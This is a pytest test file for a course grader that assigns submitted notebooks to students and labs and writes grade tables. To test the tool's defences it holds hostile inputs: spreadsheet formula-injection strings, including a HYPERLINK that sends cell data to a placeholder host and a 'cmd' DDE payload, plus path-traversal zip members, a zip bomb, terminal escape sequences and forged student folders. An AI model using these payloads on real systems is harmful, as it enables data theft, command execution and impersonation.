"""Grading, from the files of a class to its records: whose they are, for which lab, and that none is lost."""

import csv
import io
import os
import random
import re
import zipfile
from pathlib import Path

import pytest
from grading import cell, notebook, save
from typer.testing import CliRunner

from grader import batch as grading
from grader import files, pages, tables
from grader.batch import Batch, grade_class
from grader.examine import ExerciseResult, Graded
from grader.records import Records
from grader.report import write_reports
from grader.submissions import TITLES, Submission, find_submissions
from refusallab import cli
from refusallab.course.catalogue import HEADERS
from refusallab.errors import RefusalLabError

NOTES = save([cell("x = 1")])  # a notebook that tells no lab
MOODLE = "assignsubmission_file"
ATTEMPT = "attempt_2026-01-01-10-00-00"


def hand_in(folder, *names, data=None):
    """Files, each a notebook of lab 02 unless its ending or `data` says otherwise."""
    for name in names:
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes((b"%PDF" if path.suffix == ".pdf" else notebook()) if data is None else data)


def find(folder, *names, lab="", shape="", data=None):
    """What is found of files with these names; every one of them must be accounted for."""
    hand_in(folder, *names, data=data)
    found = find_submissions(folder, lab, shape)
    assert Batch(unchanged=len(found.submissions), found=found).complete, found
    return found


def students(found):
    return sorted(s.student for s in found.submissions)


def tagged(number, source="x = 1"):
    return cell(source, refusallab={"role": "answer", "exercise": number})


# --- whose ---------------------------------------------------------------------------------------------------------

SHAPES = {
    "submitted/ada/02_the_refusal_direction/02_the_refusal_direction.ipynb": ("ada", ""),
    "ada/02/02 (1).ipynb": ("ada", ""),
    "submitted/ada/02/Untitled7.ipynb": ("ada", ""),
    "lovelaceada_LATE_1234_99887_02_the_refusal_direction-2.ipynb": ("lovelaceada-1234", "1234"),
    "lovelaceada_1234_99887_Untitled.ipynb": ("lovelaceada-1234", "1234"),
    "de_souzaana_12345_998877_02.ipynb": ("de_souzaana-12345", "12345"),
    "anon_aB3xQ_LATE_4711_02.ipynb": ("anon-aB3xQ", "aB3xQ"),
    f"Ada Lovelace_77_{MOODLE}_/02_the_refusal_direction.ipynb": ("Ada Lovelace-77", "77"),
    f"Ada Lovelace_77_{MOODLE}_02_the_refusal_direction.ipynb": ("Ada Lovelace-77", "77"),
    f"Ada Lovelace_77_{MOODLE}/Copy of lab.ipynb": ("Ada Lovelace-77", "77"),
    f"Participant_101_{MOODLE}/02.ipynb": ("Participant-101", "101"),
    "Participant_101_assignsubmission_onlinetext/02.ipynb": ("Participant-101", "101"),
    f"Lab 02_ada_{ATTEMPT}_Untitled.ipynb": ("ada", "ada"),
    f"gradebook_CS101_Lab02_ada_{ATTEMPT}_02.ipynb": ("ada", "ada"),
    "lab-02-ada-lovelace/02.ipynb": ("ada-lovelace", "ada-lovelace"),
    "cs101-02-the-refusal-direction-ada/labs/02_the_refusal_direction.ipynb": ("ada", "ada"),
    "ada_02.ipynb": ("ada", ""),
    "ada-02_the_refusal_direction (3).ipynb": ("ada", ""),
    "ada_lab02.ipynb": ("ada", ""),
    "ada_lab2.ipynb": ("ada", ""),
    "02/ada.ipynb": ("ada", ""),
    "ada/notebook.ipynb": ("ada", ""),
    "s_04/02_the_refusal_direction.ipynb": ("s_04", ""),
    "s_04_02.ipynb": ("s_04", ""),
    "ada/hw_04.ipynb": ("ada", ""),
    "student017/02.ipynb": ("student017", ""),
}
AROUND = [
    "",
    "submissions/",
    "submitted/",
    "submissions (1)/",
    "Lab 2/",
    "02/",
    "2026/download/02_the_refusal_direction/",
]


@pytest.mark.slow
@pytest.mark.parametrize("name", SHAPES)
@pytest.mark.parametrize("around", AROUND)
def test_whose_and_for_which_lab(tmp_path, name, around):
    [found] = find(tmp_path, around + name).submissions
    assert ((found.student, found.account), found.lab) == (SHAPES[name], "02")


def test_a_file_that_names_nobody_stands_for_itself(tmp_path):
    assert students(find(tmp_path, "02 (1).ipynb")) == ["02"]


CLASSES = {
    "moodle, anonymous": ([f"Participant_{n}_{MOODLE}" for n in (101, 102)], ["Participant-101", "Participant-102"]),
    "moodle, one name twice": ([f"Ada_77_{MOODLE}", f"Ada_78_{MOODLE}_"], ["Ada-77", "Ada-78"]),
    "github": (["lab-02-ada", "lab-02-bob-x"], ["ada", "bob-x"]),
    "folders": (["ada", "bob"], ["ada", "bob"]),
    "low numbers": (["01", "02", "03"], ["01", "02", "03"]),
    "numbers": (["01", "02", "03", "17"], ["01", "02", "03", "17"]),
    "words": (["ada", "submitted", "Participant", "labs"], ["Participant", "ada", "labs", "submitted"]),
}  # fmt: skip


@pytest.mark.parametrize("around", ["", "submissions/", "CS101-Lab 02-4711/", "Lab 02/late/"])
@pytest.mark.parametrize("kind", CLASSES)
def test_everybody_in_a_class_is_found(tmp_path, kind, around):
    folders, expected = CLASSES[kind]
    names = [f"{around}{folder}/02.ipynb" for folder in folders]
    if kind in ("low numbers", "numbers") and around.startswith("CS101"):  # labs of one student, or students?
        hand_in(tmp_path, *names)
        assert students(find_submissions(tmp_path / around, shape="students")) == expected
    else:
        assert students(find(tmp_path, *names)) == expected


def test_a_downloads_own_name_is_taken_off(tmp_path):
    found = find(tmp_path, *(f"ML-Refusal-4711/Participant_{n}_{MOODLE}/02.ipynb" for n in (101, 102)))
    assert students(found) == ["Participant-101", "Participant-102"]


def test_only_what_was_submitted_counts_in_a_course_of_nbgrader(tmp_path):
    found = find(tmp_path, *(f"{step}/ada/02/02.ipynb" for step in ("submitted", "autograded", "feedback", "source")))
    assert ([s.path.parts[-4] for s in found.submissions], len(found.passed_over)) == (["submitted"], 3)


FORGED = [
    "{mallory}/02/bob/02/02.ipynb",
    "{mallory}/bob/02.ipynb",
    "{mallory}/submitted/bob/02/02.ipynb",
    "{mallory}/02/bob_42_assignsubmission_file_02.ipynb",
    "{mallory}/bob_42_assignsubmission_file_/02.ipynb",
    "{mallory}/bob_1_2_02.ipynb",
    "{mallory}/lab-02-bob/02.ipynb",
    "{mallory}/Lab 02_bob_attempt_2026-02-02-10-00-00_02.ipynb",
    "{mallory}/bob_02.ipynb",
    "{mallory}/bob.zip",
]
CLASS_OF = {  # bob's and mallory's folders
    "folders": ("bob", "mallory"),
    "moodle": (f"bob_42_{MOODLE}_", f"mallory_7_{MOODLE}_"),
    "github": ("lab-02-bob", "lab-02-mallory"),
    "wrapped": ("submissions/02/bob", "submissions/02/mallory"),
    "named like a wrapper": ("bob", "submitted"),
    "named like a lab": ("bob", "02"),
}


@pytest.mark.parametrize("shape", CLASS_OF)
@pytest.mark.parametrize("forged", FORGED)
def test_nobody_hands_in_for_another(tmp_path, shape, forged):
    bob, mallory = CLASS_OF[shape]
    data = (
        zipped(("bob/02/bob_42_assignsubmission_file_02.ipynb", notebook())) if forged.endswith("zip") else notebook()
    )
    hand_in(tmp_path, forged.format(mallory=mallory), data=data)
    found = find(tmp_path, f"{bob}/02/02.ipynb")
    own = {s.student: s for s in found.submissions}
    name = {"moodle": "bob-42"}.get(shape, "bob")
    assert own.pop(name).path == tmp_path / bob / "02/02.ipynb"
    assert all(student in ("mallory", "mallory-7", "submitted", "02") for student in own)
    assert all(conflict.student != name for conflict in found.conflicts)


@pytest.mark.parametrize(
    "name",
    [
        "mallory_7_assignsubmission_file_bob_42_assignsubmission_file_02.ipynb",
        f"mallory_7_assignsubmission_file_Lab 02_bob_{ATTEMPT}_02.ipynb",
        "mallory_7_assignsubmission_file_bob_4242_9999_02.ipynb",
        "mallory_7_8_bob_42_assignsubmission_file_02.ipynb",
        f"mallory_7_8_Lab 02_bob_{ATTEMPT}_02.ipynb",
        "mallory_7_8_bob_42_99_02.ipynb",
        f"Lab 02_mallory_{ATTEMPT}_bob_42_assignsubmission_file_02.ipynb",
        f"Lab 02_mallory_{ATTEMPT}_Lab 02_bob_{ATTEMPT}_02.ipynb",
        "mallory/02/bob/02/02.ipynb",
        "mallory/02/bob_42_assignsubmission_file_02.ipynb",
        "mallory_7_assignsubmission_file_/bob_42_assignsubmission_file_/02.ipynb",
    ],
)
def test_the_first_part_that_the_platform_wrote_decides(tmp_path, name):
    assert [s.rpartition("-")[0] or s for s in students(find(tmp_path, name))] == ["mallory"]


@pytest.mark.parametrize("claims", [
    ("Bob/02.ipynb", "bob/02.ipynb"), ("bob/02.ipynb", "bob /02.ipynb"), ("bob/02.ipynb", "bo\u200bb/02.ipynb"),
    ("Jos\u00e9/02.ipynb", "Jose\u0301/02.ipynb"), ("bob/02.ipynb", "\uff42ob/02.ipynb"),
    ("bob/02.ipynb", "bob_02.ipynb"), ("bob_02.ipynb", "bob-02.ipynb"),
    ("bob_02.ipynb", "bob_02_final.ipynb"),
    ("bob_02.ipynb", "bob_02 (1).ipynb"), ("02.ipynb", "02 (1).ipynb"),
    ("bob/02.ipynb", "bob/old/02.ipynb"), ("Lab 01/bob/02.ipynb", "Lab 02/bob/02.ipynb"),
    ("Lab 1/bob.ipynb", "Lab 2/bob.ipynb"),
    (f"bob_42_{MOODLE}/02.ipynb", f"rob_42_{MOODLE}/02.ipynb"),
    (f"bob_42_{MOODLE}/02.ipynb", f"bob_42_{MOODLE}_02.ipynb"),
    ("bob_1_2_02.ipynb", "rob_1_3_02.ipynb"), ("ada_2024_12_02.ipynb", "bob_2024_12_02.ipynb"),
    (f"Lab 02_a_l_{ATTEMPT}_02.ipynb", f"Lab 02_b_l_{ATTEMPT}_02.ipynb"),
    ("submissions/bob/02.ipynb", "late/bob/02.ipynb"),
    ("bob/02.ipynb", "bob/final.ipynb"), ("\udcff/02.ipynb", "\\udcff/02.ipynb"),
])  # fmt: skip
def test_two_claims_to_one_name_are_a_conflict(tmp_path, claims):
    around = claims[0].startswith(("Lab 01/", "Lab 1/", "submissions/"))
    found = find(tmp_path, *claims, *([] if around else ["zoe9/02.ipynb"]))
    assert students(found) == ([] if around else ["zoe9"])
    listed = {name for conflict in found.conflicts for name in conflict.files}
    assert {name.encode("utf-8", "backslashreplace").decode() for name in claims} <= listed


def test_versions_in_one_folder_are_no_conflict(tmp_path):
    for name, age in (("02.ipynb", 30), ("02 (1).ipynb", 20), ("02 (2).ipynb", 20)):
        hand_in(tmp_path, f"ada/02/{name}")
        os.utime(tmp_path / "ada" / "02" / name, (1e9 - age, 1e9 - age))
    [found] = find_submissions(tmp_path).submissions
    assert (found.path.name, sorted(found.older)) == ("02 (2).ipynb", ["02 (1).ipynb", "02.ipynb"])


def test_the_platforms_own_time_of_an_attempt_decides(tmp_path):
    new, old = (f"Lab 02_ada_attempt_2026-01-0{day}-10-00-00_02.ipynb" for day in (2, 1))
    hand_in(tmp_path, new, old)
    os.utime(tmp_path / new, (1e9, 1e9))
    [found] = find_submissions(tmp_path).submissions
    assert (found.path.name, found.older) == (new, (old,))


@pytest.mark.parametrize(("names", "expected"), [
    (["s-04.ipynb", "s-05.ipynb"], ["s-04", "s-05"]),
    (["student_01.ipynb", "student_02.ipynb", "student_17.ipynb"], ["student_01", "student_02", "student_17"]),
    (["ada_02.ipynb", "bob_02.ipynb"], ["ada", "bob"]),
    (["02_ada.ipynb", "02_bob.ipynb"], ["02_ada", "02_bob"]),
])  # fmt: skip
def test_people_in_a_flat_folder(tmp_path, names, expected):
    assert students(find(tmp_path, *names)) == expected


def test_a_notebook_with_nothing_of_the_lab_replaces_none_that_has(tmp_path):
    hand_in(tmp_path, "ada/02_notes.ipynb", "bob/02.ipynb", data=NOTES)
    hand_in(tmp_path, "ada/02.ipynb", "cem/02.ipynb")
    hand_in(tmp_path, "cem/02 (1).ipynb", data=b"damaged")
    for name, age in (("ada/02.ipynb", 100), ("cem/02.ipynb", 100)):
        os.utime(tmp_path / name, (1e9 - age, 1e9 - age))
    found = find(tmp_path)
    assert [s.path.name for s in found.submissions] == ["02.ipynb", "02.ipynb", "02 (1).ipynb"]
    assert [name for name, _ in found.passed_over] == ["ada/02_notes.ipynb"]


def test_grades_in_the_folder_itself_change_nothing(tmp_path):
    hand_in(tmp_path, "grades/feedback/ada_02.html", "grades/seed", data=b"x")
    assert students(find(tmp_path, "submitted/ada/02/02.ipynb", "submitted/bob/02/02.ipynb")) == ["ada", "bob"]


def test_a_whole_download_that_is_still_a_zip_is_nobodys(tmp_path):
    hand_in(tmp_path, "submissions.zip", data=zipped(("ada/02.ipynb", notebook())))
    hand_in(tmp_path, "x.zip", data=zipped((f"ada_7_{MOODLE}/02.ipynb", notebook())))
    assert find(tmp_path).reasons() == {
        "a zip that may hold what others submitted: unpack it": ["submissions.zip", "x.zip"]
    }


@pytest.mark.parametrize("names", [
    ("X/ada/02.ipynb", "X/bob/02.ipynb"), ("X/ada_02.ipynb", "X/bob_02.ipynb"), ("CS101 Lab 02/ada/02.ipynb",),
    (f"X/Participant_101_{MOODLE}/02.ipynb",), ("s1234567/bob_42_assignsubmission_file_02.ipynb",),
    ("X/02/ada/02.ipynb", "X/02/bob/02.ipynb"), ("X/ada_1_2_02.ipynb",),
    ("01/ada.ipynb", "02/bob.ipynb"), ("01/bob/02.ipynb", "02/bob/02.ipynb"),
    ("A/ada/02.ipynb", "A/bob/02.ipynb", "B/cem/02.ipynb", "B/dan/02.ipynb"),
])  # fmt: skip
def test_what_cannot_be_told_is_asked(tmp_path, names):
    with pytest.raises(RefusalLabError, match="not clear whether .* --shape students"):
        find(tmp_path, *names)


def test_what_cannot_be_told_costs_only_that_folder(tmp_path):
    found = find(tmp_path, "bob/02.ipynb", "submitted/ada/02.ipynb", "02/x.ipynb", "02/y.ipynb")
    assert students(found) == ["bob"]
    assert [c.student for c in found.conflicts] == ["02", "submitted"]


@pytest.mark.parametrize(("shape", "names", "expected"), [
    ("students", ["X/a/02.ipynb"], ["X"]),
    ("students", ["ada_2024_12_02.ipynb", "bob_2024_12_02.ipynb"], ["ada_2024_12", "bob_2024_12"]),
    ("students", ["01/02.ipynb", "02/02.ipynb"], ["01", "02"]),
    ("labs", ["X/ada/02.ipynb", "X/bob/02.ipynb", "Y/cem_02.ipynb"], ["ada", "bob", "cem"]),
    ("labs", [f"X/ada_1_{MOODLE}/02.ipynb", f"X/ada_2_{MOODLE}/02.ipynb"], ["ada-1", "ada-2"]),
    ("moodle", [*(f"X/Y/ada_{n}_{MOODLE}_02.ipynb" for n in (1, 2)), "X/Y/readme.ipynb"], ["ada-1", "ada-2"]),
    ("canvas", ["X/ada_1_2_02.ipynb"], ["ada-1"]),
    ("blackboard", [f"X/Lab_ada_{ATTEMPT}_02.ipynb"], ["ada"]),
    ("github", ["X/02-ada/02.ipynb", "X/02-bob/02.ipynb"], ["ada", "bob"]),
])  # fmt: skip
def test_the_shape_can_be_said(tmp_path, shape, names, expected):
    assert students(find(tmp_path, *names, shape=shape)) == expected


def test_an_unknown_shape_is_named(tmp_path):
    with pytest.raises(RefusalLabError, match="no shape 'flat'.*students, labs, moodle, canvas, blackboard, github"):
        find_submissions(tmp_path, shape="flat")


@pytest.mark.parametrize(
    "name", ["x\udcff", "a\x1b[2Jb", "a\nb", "  ", "a" * 200, "=1+1", "\u202ebob", "-rf", "a\tb", "a\u2028b"]
)
def test_any_name_can_be_kept_and_shown(tmp_path, name):
    [found] = find(tmp_path, f"{name}/{name}.ipynb").submissions
    for text in (found.student, found.file):
        assert text.encode().decode() == text
        assert text.strip() and text.isprintable() or "\u202e" in text
    assert len(found.student) <= 200
    records = Records("sqlite://")
    records.write(found, result(found), "one")
    assert records.digests() == {(found.student, "02"): "one"}


# --- which lab -----------------------------------------------------------------------------------------------------

SCORE = "def score(): pass\ndef choose(): pass"  # in lab 02 and in lab 08


@pytest.mark.parametrize(("name", "data", "lab"), [
    ("s_04/02_the_refusal_direction.ipynb", notebook(), "02"),
    ("ada/hw_04.ipynb", notebook(), "02"),
    ("04/ada.ipynb", notebook(), "02"),
    ("ada_04.ipynb", notebook(), "02"),
    ("ada/04.ipynb", notebook()[:-300], "02"),  # damaged
    ("ada/02.ipynb", save([cell("def project(x): pass\ndef plane(x): pass")]), "03"),
    ("ada/08.ipynb", save([cell(SCORE)]), "08"),
    ("ada/02.ipynb", save([cell(SCORE)]), "02"),
    ("ada/x.ipynb", save([cell(SCORE), tagged("8.3")]), "08"),
    ("ada/08.ipynb", save([cell(SCORE), cell("# Lab 02. The refusal direction", "markdown")]), "02"),
    ("ada/03.ipynb", save([cell("def add(a, b): return a + b"), tagged("2.1"), tagged("2.2")]), "02"),
    ("ada/04.ipynb", save([tagged("2.1")]), "02"),
    ("ada/04.ipynb", save([cell("### Question 2.6 · What did the test set decide?", "markdown")]), "02"),
    ("ada/04.ipynb", save([cell('check("2.1", f)')]), "02"),
    ("ada/04.ipynb", save([cell("kl = lambda p, q: 0")]), "02"),
    ("ada/x.ipynb", save([cell("# def kl(): pass\ns = 'def kl()'"), cell("def kl", "markdown")]), ""),
    ("ada/04.ipynb", NOTES, "04"),
    ("ada/04/x.ipynb", NOTES, "04"),
    ("04/ada/x.ipynb", NOTES, "04"),
    ("Lab 4/ada.ipynb", NOTES, "04"),
    ("lab-04-ada/x.ipynb", NOTES, "04"),
    (f"Lab 04_ada_{ATTEMPT}_x.ipynb", NOTES, "04"),
    ("s_04/x.ipynb", NOTES, ""),  # a student's name tells no lab
    ("s_04_99887_77_x.ipynb", NOTES, ""),
])  # fmt: skip
def test_what_a_notebook_is_decides_its_lab(tmp_path, name, data, lab):
    found = find(tmp_path, name, data=data)
    assert [s.lab for s in found.submissions] == [lab] * bool(lab), found


def test_the_notebooks_of_the_course_are_known_by_their_contents(tmp_path):
    root = Path(__file__).parents[2]
    for path in [*root.glob("labs/*.ipynb"), *root.glob("solutions/*.ipynb")]:
        hand_in(tmp_path, f"{path.parent.name}9/{path.name}x/99.ipynb", data=path.read_bytes())
    titles = tuple(path.stem[3:].replace("_", " ") for path in sorted(root.glob("solutions/*.ipynb")))
    assert titles == TITLES, "grader/submissions.py, TITLES: the names of the labs, in their order"
    found = find_submissions(tmp_path, shape="students")
    assert {s.path.parent.name[:2] for s in found.submissions if s.student == "labs9"} == {e.lab for e in HEADERS}
    assert all(s.lab == s.path.parent.name[:2] for s in found.submissions)


def test_of_two_labs_in_one_notebook_the_one_that_is_asked_for(tmp_path):
    both = save([cell("def kl(): pass\ndef mean_difference(): pass\ndef project(): pass\ndef plane(): pass")])
    assert find(tmp_path, "ada/x.ipynb", data=both).passed_over == [("ada/x.ipynb", "it may be lab 02, 03: pass --lab")]
    assert [s.lab for s in find_submissions(tmp_path, "03").submissions] == ["03"]


def test_other_labs_are_listed_under_lab(tmp_path):
    hand_in(tmp_path, "ada/shopping.ipynb", data=NOTES)
    found = find(tmp_path, "ada/01.ipynb", data=save([cell("def log_odds(): pass")]), lab="02")
    assert ("ada/01.ipynb", "lab 01, not 02") in found.passed_over
    assert [s.path.name for s in found.submissions] == ["shopping.ipynb"]  # as nothing else may be it
    found = find(tmp_path, "ada/02.ipynb", lab="02")
    assert [s.path.name for s in found.submissions] == ["02.ipynb"]
    assert any("nothing of lab 02" in reason for _, reason in found.passed_over)


# --- files that are no notebooks -----------------------------------------------------------------------------------


def zipped(*members, **settings):
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members:
            archive.writestr(name, content)
    return data.getvalue()


READ = {
    "02.ipynb.txt": notebook(), "02.IPYNB": notebook(), "02.json": notebook(), "02.ipynb.json": notebook(),
    "02.ipynb.html": notebook(), "02": notebook(), "02.txt": b"\xef\xbb\xbf \n" + notebook(),
    "02.zip": zipped(("02.ipynb", notebook())), "02.ipynb": zipped(("x/02.ipynb", notebook())),
    "x.zip": zipped(("../../bob/02.ipynb", notebook()), ("/etc/x.py", b""), ("__MACOSX/._02.ipynb", b"x"),
                    (".ipynb_checkpoints/02-checkpoint.ipynb", notebook())),
    "cut.ipynb.txt": notebook()[:-100], "empty.ipynb": b"", "page.ipynb": b"<html>02</html>",
}  # fmt: skip


@pytest.mark.parametrize("name", READ)
def test_what_can_be_read_is_read(tmp_path, name):
    [found] = find(tmp_path, f"ada/02/{name}", data=READ[name]).submissions
    assert (found.student, found.lab) == ("ada", "02")
    expected = notebook() if zipfile.is_zipfile(found.path) else READ[name]
    assert found.read() == expected
    assert len(list(tmp_path.rglob("*"))) == 3  # nothing is unpacked


ENCRYPTED = bytearray(zipped(("02.ipynb", notebook())))
ENCRYPTED[6] |= 1
ENCRYPTED[ENCRYPTED.index(b"PK\x01\x02") + 8] |= 1
PASSED_OVER = {
    "two.zip": (zipped(("01.ipynb", notebook()), ("02.ipynb", notebook())), "a zip with 2 notebooks: unpack it"),
    "none.zip": (zipped(("02.py", b"x")), "a zip without a notebook"),
    "nested.zip": (zipped(("02.zip", READ["02.zip"])), "a zip without a notebook"),
    "cut.zip": (READ["02.zip"][:-30], "a zip that cannot be read"),
    "locked.zip": (bytes(ENCRYPTED), "a zip with a password"),
    "02.docx": (zipped(("word/document.xml", b"x")), "a zip without a notebook"),
    "02.tar.gz": (b"\x1f\x8b\x08", "an archive of another kind"),
    "02.py": (b"def kl(): pass", "no notebook"),
    "02.pdf": (b"%PDF-1.4", "no notebook"),
    "02.ipynb.html": (b"<html></html>", "no notebook"),
    "data.json": (b'{"a": 1}', "no notebook"),
    "02.txt": (b"", "empty"),
    ".02.ipynb": (notebook(), "hidden"),
    ".DS_Store": (b"x", "hidden"),
    ".git/objects/aa": (b"x", "hidden"),
    ".ipynb_checkpoints/02.ipynb": (notebook(), "hidden"),
    "__MACOSX/._02.ipynb": (b"x", "left there by macOS"),
    "x.ipynb/readme.txt": (b"x", "no notebook"),
    "shopping.ipynb": (NOTES, "no lab of the course"),
    "\udcff.pdf": (b"x", "no notebook"),
}


@pytest.mark.parametrize("name", PASSED_OVER)
def test_the_rest_is_listed_with_a_reason(tmp_path, name):
    data, reason = PASSED_OVER[name]
    found = find(tmp_path, f"ada/{name}", data=data)
    [(listed, why)] = found.passed_over
    assert (listed, found.submissions) == (f"ada/{name}".encode("utf-8", "backslashreplace").decode(), [])
    assert reason in why


def test_a_zip_bomb_is_not_unpacked(tmp_path, monkeypatch):
    monkeypatch.setattr(files, "LARGEST", 10_000)
    bomb = zipped(("02.ipynb", b" " * 1_000_000))
    assert len(bomb) < 10_000
    lying = bomb.replace((1_000_000).to_bytes(4, "little"), (100).to_bytes(4, "little"))
    hand_in(tmp_path, "ada/bomb.zip", data=bomb)
    hand_in(tmp_path, "bob/lying.zip", data=lying)
    found = find(tmp_path, "cem/02.ipynb")
    assert [name for name, _ in found.passed_over] == ["ada/bomb.zip", "bob/lying.zip"]


def test_a_zip_of_very_many_files_is_not_listed(tmp_path, monkeypatch):
    monkeypatch.setattr(files, "MOST_IN_ZIP", 10)
    data = zipped(("02.ipynb", notebook()), *((f"{n}.txt", b"") for n in range(10)))
    [(_, reason)] = find(tmp_path, "ada/02.zip", data=data).passed_over
    assert "or 10 files" in reason


def test_what_is_no_file_is_not_opened(tmp_path):
    hand_in(tmp_path, "ada/02.ipynb")
    os.mkfifo(tmp_path / "ada" / "pipe.ipynb")
    (tmp_path / "ada" / "link.ipynb").symlink_to(tmp_path / "ada" / "02.ipynb")
    (tmp_path / "ada" / "all").symlink_to(tmp_path)
    (tmp_path / "bob").symlink_to(tmp_path / "ada")
    (tmp_path / "ada" / "x.ipynb").mkdir()
    deep = tmp_path / "ada" / "/".join("a" * 200)
    deep.mkdir(parents=True)
    found = find(tmp_path)
    reasons = found.reasons()
    assert sorted(reasons["a link, not a file"]) == ["ada/all", "ada/link.ipynb", "bob"]
    assert reasons["not an ordinary file"] == ["ada/pipe.ipynb"]
    assert any("50 nested folders" in reason for reason in reasons)
    assert students(found) == ["ada"]


def test_a_folder_or_lab_that_does_not_exist_is_named(tmp_path):
    with pytest.raises(RefusalLabError, match="no folder"):
        find_submissions(tmp_path / "nowhere")
    with pytest.raises(RefusalLabError, match="Lab '77' has no exercises"):
        find_submissions(tmp_path, "77")


# --- the sum of files ----------------------------------------------------------------------------------------------


def result(submission, written="My answer"):
    outcomes = [ExerciseResult(e.number, e.points, e.points) for e in HEADERS if e.lab == submission.lab]
    return Graded(submission.student, submission.lab, outcomes, written={"2.6": written})


@pytest.fixture
def ungraded(monkeypatch):
    """Grading without running anybody's code: everybody is right, but whose name is broken."""

    def examine(task):
        if task.student == "broken":
            raise OSError("no server")
        return result(Submission(task.student, task.lab, Path()))

    monkeypatch.setattr(grading, "examine", examine)
    monkeypatch.setattr(grading, "shared", lambda sandboxed: None)


EVERYTHING = (
    "ada/02.ipynb", "bob/02.ipynb", "Bob/02.ipynb", "cem/02.ipynb", "cem/02 (1).ipynb", "broken/02.ipynb", "dan/02.pdf",
)  # fmt: skip


@pytest.mark.slow
def test_every_file_is_accounted_for(tmp_path, ungraded, monkeypatch):
    hand_in(tmp_path / "in", *EVERYTHING)
    monkeypatch.chdir(tmp_path)
    command = ["grade", "in", "--out", "out"]
    said = CliRunner().invoke(cli.app, command)
    sum_ = "7 files found = 2 graded + 0 unchanged + 1 failed + 1 older versions + 2 in conflict + 1 passed over."
    assert sum_ in said.output
    assert "conflict: Bob, lab 02: Bob/02.ipynb, bob/02.ipynb: from different folders" in said.output
    assert "passed over, no notebook: dan/02.pdf" in said.output
    assert "older than 02 (1).ipynb: cem, 02.ipynb" in said.output
    overview = (tmp_path / "out" / "overview.html").read_text()
    for text in (sum_, "Bob/02.ipynb, bob/02.ipynb", "dan/02.pdf", "Older versions of cem", "02.ipynb of broken"):
        assert text in overview
    assert said.exit_code == 1
    again = CliRunner().invoke(cli.app, command)
    assert "7 files found = 0 graded + 2 unchanged + 1 failed" in again.output


def test_a_conflict_is_no_success(tmp_path, ungraded, monkeypatch):
    hand_in(tmp_path / "in", "ada/02.ipynb", "bob/02.ipynb", "Bob/02.ipynb")
    monkeypatch.chdir(tmp_path)
    said = CliRunner().invoke(cli.app, ["grade", "in", "--out", "out"])
    assert (said.exit_code, "1 graded" in said.output) == (1, True)
    (tmp_path / "in" / "Bob" / "02.ipynb").unlink()
    assert CliRunner().invoke(cli.app, ["grade", "in", "--out", "out"]).exit_code == 0


def test_a_sum_that_does_not_hold_is_loud(tmp_path, ungraded, monkeypatch):
    hand_in(tmp_path / "in", "ada/02.ipynb", "bob/02.pdf")
    monkeypatch.chdir(tmp_path)

    def lossy(*args):
        found = find_submissions(*args)
        found.passed_over.clear()
        return found

    monkeypatch.setattr(grading, "find_submissions", lossy)
    said = CliRunner().invoke(cli.app, ["grade", "in", "--out", "out"])
    assert said.exit_code == 1
    assert "2 files found ≠ 1 graded" in said.output
    assert "counts of files do not add up" in said.output


def test_a_name_that_is_no_utf_8_does_not_stop_the_run(tmp_path, ungraded, monkeypatch):
    hand_in(tmp_path / "in", "ada/02\udcff.ipynb", "ada/02\udcff (1).ipynb", "b\udcff/02.ipynb", "cem/\x1b[2J.pdf")
    monkeypatch.chdir(tmp_path)
    said = CliRunner().invoke(cli.app, ["grade", "in", "--out", "out"])
    assert (said.exit_code, "2 graded" in said.output) == (0, True), said.output
    assert "\x1b" not in said.output
    assert r"b\udcff" in (tmp_path / "out" / "grades.csv").read_text()


# --- tables --------------------------------------------------------------------------------------------------------

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "＝1+1",
    "＋1",
    "－1+1",
    "＠x",
    " =1",
    "a;=1",
    "a\t=1",
    "'=1",
    "−x",
    "+3",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_is_a_formula(text):
    cell = tables.safe(text)
    assert not re.search(r"(^|[;\t])\s*[=+\-@＝＋－＠−\t\r]", cell)
    assert tables.as_it_was(cell) == text


@pytest.mark.parametrize(
    "text", ["-5", "-2.5", "-2,5", "1234", "ada", "O'Neill", "'t Hooft", "a=b", "a-b", "", "x\n- y"]
)
def test_numbers_and_ordinary_text_stay_as_they_are(text):
    assert tables.safe(text) == tables.as_it_was(text) == text


def test_any_cell_comes_back_as_it_was():
    rng = random.Random(1)
    for _ in range(20_000):
        text = "".join(rng.choices("='-+@\t\r; a1＝\n", k=rng.randint(0, 6)))
        assert tables.as_it_was(tables.safe(text)) == text


HOSTILE = '=HYPERLINK("http://x/?"&A1,"y")'


def test_all_cells_of_all_tables_are_safe(tmp_path):
    records = Records("sqlite://")
    for student, account in ((HOSTILE, ""), (f"{HOSTILE}-7", "7"), ("-12", "-12"), ("@bob", "@bob"), ("ada", "ada")):
        one = Submission(student, "02", tmp_path, account)
        graded = result(one, "-2+3+cmd|' /C calc'!A0")
        graded.outcomes[0].problem, graded.outcomes[0].mistake = "+1", "=A1"
        records.write(one, graded, "one")
    write_reports(records, tmp_path, tmp_path / "none")
    written = sorted(tmp_path.glob("*.csv"))
    assert [path.name for path in written] == ["by_hand.csv", "canvas.csv", "grades.csv", "moodle_02.csv"]
    for path in written:
        with path.open(newline="") as file:
            cells = [text for row in csv.reader(file) for text in row]
        assert not [
            text for text in cells if re.match(r"\s*[=+\-@\t\r＝＋－＠]", text) and not re.fullmatch(r"-\d+", text)
        ]
    with (tmp_path / "moodle_02.csv").open(newline="") as file:
        assert ["Participant 7", f"'{HOSTILE}", "11", "14"] in list(csv.reader(file))
    with (tmp_path / "canvas.csv").open(newline="") as file:
        rows = {row[0]: row[1:4] for row in csv.reader(file)}
    assert rows[f"'{HOSTILE}-7"] == ["7", "", ""]
    assert rows["ada"] == ["", "", "ada"]


@pytest.mark.parametrize("student", [HOSTILE, "'=x", "-1", "+49 1", "a;=b", "José", "x'y"])
def test_points_by_hand_come_back_to_the_same_student(tmp_path, student):
    records, table = Records("sqlite://"), tmp_path / "by_hand.csv"
    one = Submission(student, "02", tmp_path)
    records.write(one, result(one), "one")
    pages.write_by_hand(records, table)
    for _ in range(2):
        with table.open(newline="") as file:
            rows = list(csv.reader(file))
        rows[1][3:5] = ["2,5", "- no maximum"] if len(rows[1][3]) == 0 else rows[1][3:5]
        with table.open("w", newline="") as file:
            csv.writer(file).writerows(rows)
        pages.read_by_hand(records, table)
